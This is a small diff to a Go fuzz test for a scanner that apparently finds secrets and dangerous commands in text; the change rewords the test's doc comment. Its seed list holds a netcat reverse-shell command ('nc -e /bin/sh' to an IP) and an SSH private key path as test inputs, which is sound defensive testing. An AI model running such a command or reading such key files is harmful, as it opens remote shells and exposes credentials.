@@ -19,8 +19,8 @@ var seeds = []string{
 	"nc -e /bin/sh 1.1.1.1 1", "~/.ssh/id_rsa",
 }
 
-// FuzzText holds Text to what it promises: no panic, hits in order and inside of the text, no text of a secret in what
-// it says; and what is found in a text is found as well when another text follows.
+// FuzzText checks the guarantees of Text: no panic, findings in order and inside the text, no text of a secret in
+// messages, and the same findings if another text follows.
 func FuzzText(f *testing.F) {
 	for i, s := range seeds {
 		f.Add([]byte(s), []byte(seeds[len(seeds)-1-i]), byte(i))
